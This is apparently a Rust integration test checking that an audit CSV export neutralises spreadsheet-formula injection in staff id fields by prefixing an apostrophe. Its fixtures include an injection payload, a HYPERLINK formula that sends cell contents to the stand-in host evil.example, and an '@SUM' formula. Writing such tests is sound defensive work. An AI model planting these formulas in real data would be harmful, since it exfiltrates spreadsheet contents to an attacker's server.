//! What central hands out, attacked through the real process (issue 15, Low items): a staff id
//! typed at a counter as a spreadsheet formula reaches the auditor's CSV as text.

use e2e::http::Operator;
use e2e::uplink::{Session, agent_tls, lookup_event};
use e2e::{Pki, TestDb, await_events, https_endpoint, site_code, start_central};
use proto::fleet::v1 as pb;

/// A lookup event of `site` at `sequence` recorded by staff `staff_id`.
fn lookup_by(site: &str, sequence: u64, staff_id: &str) -> pb::Event {
    let mut event = lookup_event(site, sequence);
    if let Some(pb::event::Body::Lookup(lookup)) = event.body.as_mut() {
        lookup.staff_id = staff_id.to_string();
    }
    event
}

#[tokio::test(flavor = "multi_thread")]
async fn a_formula_typed_as_a_staff_id_reaches_the_audit_csv_as_text() -> anyhow::Result<()> {
    let site = site_code("131011006");
    let pki = Pki::new(&[&site])?;
    let db = TestDb::create().await?;
    let central = start_central(&pki, &db).await?;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
    let mut agent = Session::open(
        &https_endpoint(&central, "grpc"),
        agent_tls(&pki, &site)?,
        &site,
        uuid::Uuid::now_v7(),
    )
    .await?;
    agent
        .send_batch(vec![
            lookup_by(&site, 1, formula),
            lookup_by(&site, 2, "@SUM(1+1)"),
            lookup_by(&site, 3, "S001"),
        ])
        .await?;
    await_events(&db, &site, "lookup", 3).await;

    let operator = Operator::new(&pki, &central);
    let (status, content_type, body) = operator
        .get_raw(&format!("/api/v1/audit/events?site={site}&format=csv"))
        .await?;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    assert!(content_type.starts_with("text/csv"), "{content_type}");
    let mut reader = csv::ReaderBuilder::new().from_reader(&body[3..]);
    let staff_column = reader
        .headers()?
        .iter()
        .position(|h| h.contains("staff_id"))
        .expect("a staff_id column");
    let mut staff: Vec<String> = reader
        .records()
        .map(|r| r.map(|r| r[staff_column].to_string()))
        .collect::<Result<_, _>>()?;
    staff.sort();
    assert_eq!(
        staff,
        vec![format!("'{formula}"), "'@SUM(1+1)".into(), "S001".into()]
    );
    Ok(())
}
